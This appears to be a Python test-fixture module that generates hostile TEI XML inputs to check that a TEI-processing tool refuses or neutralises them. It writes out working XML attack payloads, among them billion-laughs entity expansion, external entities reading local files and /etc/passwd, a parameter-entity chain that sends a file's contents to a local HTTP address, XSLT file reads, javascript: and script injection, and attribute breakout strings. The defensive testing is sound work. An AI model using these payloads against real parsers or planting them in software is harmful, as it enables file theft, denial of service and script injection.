"""TEI that means harm, for every command that reads TEI. What parsers refuse word by word is in test_hostile_xml.py."""

from html import escape

from kinds import DocumentKind, Making, add, document

NS = "http://www.tei-c.org/ns/1.0"
NOBODY = "http://127.0.0.1:9"  # a port at which nobody listens
HEADER = (
    "<teiHeader><fileDesc><titleStmt><title>{title}</title></titleStmt><publicationStmt><p>p</p></publicationStmt>"
    "<sourceDesc><p>s</p></sourceDesc></fileDesc></teiHeader>"
)


def tei(body: str = "<p>Good morning.</p>", *, prolog: str = "", root: str = "", title: str = "Talk") -> bytes:
    """Return a document whose body, prolog or root is what a kind makes of it."""
    head = HEADER.format(title=title)
    return f"{prolog}<TEI xmlns='{NS}'{root}>{head}<text><body>{body}</body></text></TEI>".encode()


def doctype(inside: str) -> str:
    return f"<!DOCTYPE TEI [{inside}]>"


LAUGHS = "<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{at} '{f'&a{at - 1};' * 10}'>" for at in range(1, 12))
ENTITIES = {
    "that_grow": tei("<p>&a11;</p>", prolog=doctype(LAUGHS)),
    "from_a_file": tei("<p>&x;</p>", prolog=doctype("<!ENTITY x SYSTEM '../canary.txt'>")),
    "from_the_network": tei("<p>&x;</p>", prolog=doctype(f"<!ENTITY x SYSTEM '{NOBODY}/x'>")),
    "of_parameters": tei(prolog=doctype(f"<!ENTITY % p SYSTEM '{NOBODY}/p.dtd'> %p;")),
    "of_parameters_that_send_a_file_away": tei(
        prolog=doctype(
            "<!ENTITY % f SYSTEM '../canary.txt'><!ENTITY % s \"<!ENTITY &#37; x SYSTEM 'http://127.0.0.1:9/%f;'>\"> %s; %x;"
        )
    ),
    "without_parsing": tei(prolog=doctype("<!NOTATION n SYSTEM 'n'><!ENTITY x SYSTEM '../canary.txt' NDATA n>")),
    "within_themselves": tei("<p>&a;</p>", prolog=doctype("<!ENTITY a '&b;'><!ENTITY b '&a;'>")),
}
OTHERS = {
    "a_dtd_beside": tei(prolog="<!DOCTYPE TEI SYSTEM '../canary.txt'>"),
    "a_dtd_on_the_network": tei(prolog=f"<!DOCTYPE TEI PUBLIC '-//X//DTD//EN' '{NOBODY}/x.dtd'>"),
    "attributes_of_a_dtd": tei(prolog=doctype("<!ATTLIST p rend CDATA 'evil'>")),
    "nested_over_a_hundred_thousand": tei("<hi>" * 100_000 + "</hi>" * 100_000),
    "nested_and_never_closed": tei("<hi>" * 3_000),
    "nested_over_two_hundred_and_fifty_six": tei("<p>" + "<hi>" * 257 + "x" + "</hi>" * 257 + "</p>"),
    "attributes_by_the_thousand": tei("<p " + " ".join(f"a{at}='1'" for at in range(2_000)) + "/>"),
    "a_text_over_ten_megabytes": tei(f"<p>{'x' * 10_100_000}</p>"),
    "a_value_over_ten_megabytes": tei(f"<p rend='{'x' * 10_100_000}'/>"),
    "a_comment_over_ten_megabytes": tei(f"<!--{'x' * 10_100_000}-->"),
    "xml_1_1": tei("<p>&#1;</p>", prolog="<?xml version='1.1'?>"),
    "an_encoding_of_nobody": tei(prolog="<?xml version='1.0' encoding='klingon'?>"),
    "an_encoding_that_hides": tei(prolog="<?xml version='1.0' encoding='utf-7'?>"),
    "cut_off": tei()[:-20],
    "two_documents": tei() * 2,
    "a_declaration_too_late": b"\n\n" + tei(prolog="<?xml version='1.0'?>"),
    "a_control": tei("<p>\x07</p>"),
    "a_reference_to_a_zero": tei("<p>&#0;</p>"),
    "a_reference_beyond_unicode": tei("<p>&#x110000;</p>"),
    "a_prefix_of_nothing": tei("<p><x:hi/></p>"),
    "the_prefix_of_namespaces_itself": tei(root=" xmlns:xmlns='urn:x'"),
    "an_attribute_twice_by_way_of_namespaces": tei("<p xmlns:a='urn:x' xmlns:b='urn:x' a:n='1' b:n='2'/>"),
}
# What no command reads as a document, and each says so in one line.
REFUSED = {f"entities_{name}": made for name, made in ENTITIES.items()} | OTHERS

for _name, _made in REFUSED.items():
    add(DocumentKind("documents", _name, lambda _, made=_made: made, refused=True))


@document(renders=False)
def xinclude(_: Making) -> bytes:
    return tei("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='../canary.txt' parse='text'/>")


@document(valid=True, shows="Goodmorning.")
def models_and_style_sheets_on_the_network(_: Making) -> bytes:
    kinds = "".join(
        f"<?xml-model href='{NOBODY}/{name}'?><?xml-stylesheet href='{NOBODY}/{name}' type='text/xsl'?>"
        for name in ("x.rng", "x.sch", "x.xsd", "x.xsl")
    )
    return tei(prolog=kinds)


@document()
def a_schema_on_the_network(_: Making) -> bytes:
    return tei(root=f" xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='{NS} {NOBODY}/x.xsd'")


@document(valid=True)
def instructions_for_other_programs(_: Making) -> bytes:
    return tei("<p>Good <?php system('id') ?> morning. <?xml-stylesheet href='javascript:hostile()'?></p>")


@document(renders=False)
def no_namespace(_: Making) -> bytes:
    return tei().replace(b" xmlns=", b" data-xmlns=")


@document(renders=False)
def a_namespace_like_ours(_: Making) -> bytes:
    return tei().replace(NS.encode(), NS.encode() + b"/")


@document(renders=False)
def elements_of_html(_: Making) -> bytes:
    return tei("<p>A <script xmlns='http://www.w3.org/1999/xhtml'>hostile()</script> so.</p>")


@document(renders=False)
def elements_named_like_those_of_html(_: Making) -> bytes:
    return tei("<script>hostile()</script><iframe src='javascript:hostile()'/><p onclick='hostile()'>So.</p>")


@document(renders=False)
def a_picture_that_runs(_: Making) -> bytes:
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='hostile()'><script>hostile()</script></svg>"
    return tei(f"<p><figure>{svg}</figure></p>")


@document(renders=False)
def a_formula_that_runs(_: Making) -> bytes:
    link = "<math xmlns='http://www.w3.org/1998/Math/MathML' href='javascript:hostile()'><mi>x</mi></math>"
    return tei(f"<p><formula>{link}</formula></p>")


@document()
def pictures_from_anywhere(_: Making) -> bytes:
    places = (
        "../canary.txt",
        "file:///etc/passwd",
        f"{NOBODY}/x.png",
        "data:text/html,&lt;script&gt;hostile()&lt;/script&gt;",
        "javascript:hostile()",
    )
    return tei("".join(f'<p><figure><graphic url="{place}"/></figure></p>' for place in places))


@document(valid=True)
def links_that_run(_: Making) -> bytes:
    places = (
        "javascript:hostile()",
        "JaVaScRiPt:hostile()",
        "&#x9;javascript:hostile()",
        "java&#xA;script:hostile()",
        "vbscript:x",
        "data:text/html,x",
    )
    return tei("".join(f'<p><ref target="{place}">link</ref> <ptr target="{place}"/></p>' for place in places))


@document()
def a_base_elsewhere(_: Making) -> bytes:
    return tei(f"<p xml:base='{NOBODY}/'><ref target='x.html'>link</ref></p>", root=f" xml:base='{NOBODY}/'")


@document()
def a_language_that_breaks_out(_: Making) -> bytes:
    return tei("<p xml:lang='en&quot; onclick=&quot;hostile()'>So.</p>")


@document()
def styles_that_break_out(_: Making) -> bytes:
    style = "}</style><script>hostile()</script><style>*{background:url(javascript:hostile())"
    return tei(f'<p style="{escape(style)}" rend="{escape(style)}" rendition="#{"x" * 50}">So.</p>')


@document()
def identifiers_that_break_out(_: Making) -> bytes:
    return tei("<p xml:id='&quot;&gt;&lt;script&gt;hostile()'>So.</p><p n='&quot;&gt;&lt;script&gt;'>So.</p>")


@document(valid=True)
def an_identifier_of_a_hundred_kilobytes(_: Making) -> bytes:
    return tei(f"<p xml:id='{'a' * 100_000}'>So.</p><p><ref target='#{'a' * 100_000}'>there</ref></p>")


@document()
def identifiers_twice(_: Making) -> bytes:
    return tei("<p xml:id='p1'>One.</p><p xml:id='p1'>Two.</p><p><ref target='#p1'>which?</ref></p>")


@document()
def pointers_in_a_circle(_: Making) -> bytes:
    return tei(
        "<sp xml:id='a' who='#b' next='#b' prev='#b' corresp='#a'><p>So.</p></sp>"
        "<sp xml:id='b' who='#a' next='#a' prev='#a' sameAs='#a' copyOf='#b'><p>So.</p></sp>"
        "<note xml:id='n' target='#n'><ref target='#n'>itself</ref></note>"
    )


@document(valid=True)
def notes_within_notes(_: Making) -> bytes:
    return tei("<p>" + "<note>a" * 60 + "</note>" * 60 + "</p>")


@document(valid=True)
def sections_within_sections(_: Making) -> bytes:
    return tei("<div><head>h</head>" * 120 + "<p>So.</p>" + "</div>" * 120)


@document(valid=True)
def lists_within_lists(_: Making) -> bytes:
    return tei("<list><item>" * 100 + "So." + "</item></list>" * 100)


@document(valid=True)
def nested_a_little_over_two_hundred(_: Making) -> bytes:
    return tei("<p>" + "<hi>" * 210 + "deep" + "</hi>" * 210 + "</p>")


@document()
def documents_within_documents(_: Making) -> bytes:
    inner = tei().decode()
    for _ in range(8):
        inner = f"<TEI xmlns='{NS}'>{HEADER.format(title='t')}{inner}</TEI>"
    return inner.encode()


@document(renders=False)
def a_corpus_of_nothing(_: Making) -> bytes:
    return f"<teiCorpus xmlns='{NS}'>{HEADER.format(title='t')}</teiCorpus>".encode()


@document()
def three_hundred_attributes(_: Making) -> bytes:
    return tei("<p " + " ".join(f"a{at}='1'" for at in range(300)) + ">So.</p>")


@document(valid=True)
def a_table_of_very_many_columns(making: Making) -> bytes:
    count = making.many(200, 50_000)
    cells = "<cell cols='999999999' rows='999999999'>x</cell>" * count
    return tei(f"<table><row>{cells}</row></table>")


@document(valid=True)
def very_many_elements(making: Making) -> bytes:
    return tei("<p>So it <hi>is</hi>.</p>" * making.many(300, 50_000))


@document(renders=False)
def very_many_mistakes(making: Making) -> bytes:
    return tei("<nonsense>So</nonsense>" * making.many(200, 5_000))


@document()
def a_declaration_that_eats_itself(_: Making) -> bytes:
    char = (
        "<encodingDesc><charDecl><char xml:id='g1'><mapping><g ref='#g1'/></mapping></char></charDecl></encodingDesc>"
    )
    return tei("<p><g ref='#g1'/></p>").replace(b"</fileDesc>", f"</fileDesc>{char}".encode())


@document(valid=True)
def words_before_and_after_that_never_end(_: Making) -> bytes:
    style = "content: " + "\\&quot;" * 3_000 + "&quot;" * 3_001
    tags = f"<encodingDesc><tagsDecl><rendition xml:id='r' scheme='css' scope='before'>{style}</rendition></tagsDecl></encodingDesc>"
    return tei("<p rendition='#r'>So.</p>").replace(b"</fileDesc>", f"</fileDesc>{tags}".encode())


@document()
def who_is_everybody(making: Making) -> bytes:
    count = making.many(200, 50_000)
    return tei(f"<sp who='{' '.join(f'#p{at}' for at in range(count))}'><speaker>All.</speaker><p>So.</p></sp>")


@document()
def dates_that_nobody_knows(_: Making) -> bytes:
    days = ("9999999999999-01-01", "-0001-02-30", "1989-02-30", "24:00:00.99999999999", "P99999999999999Y", "0000")
    return tei("".join(f"<p><date when='{day}' from='{day}' dur='{day}'>then</date></p>" for day in days))


@document(renders=False)
def a_text_and_no_header(_: Making) -> bytes:
    return f"<TEI xmlns='{NS}'><text><body><p>So.</p></body></text></TEI>".encode()


@document(renders=False)
def nothing_but_a_root(_: Making) -> bytes:
    return f"<TEI xmlns='{NS}'/>".encode()


@document(renders=False)
def another_root(_: Making) -> bytes:
    return f"<p xmlns='{NS}'>So.</p>".encode()


@document(renders=False)
def a_style_sheet_in_its_place(_: Making) -> bytes:
    return b"""<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"
    ><xsl:copy-of select="unparsed-text('../canary.txt')"/></xsl:template></xsl:stylesheet>"""
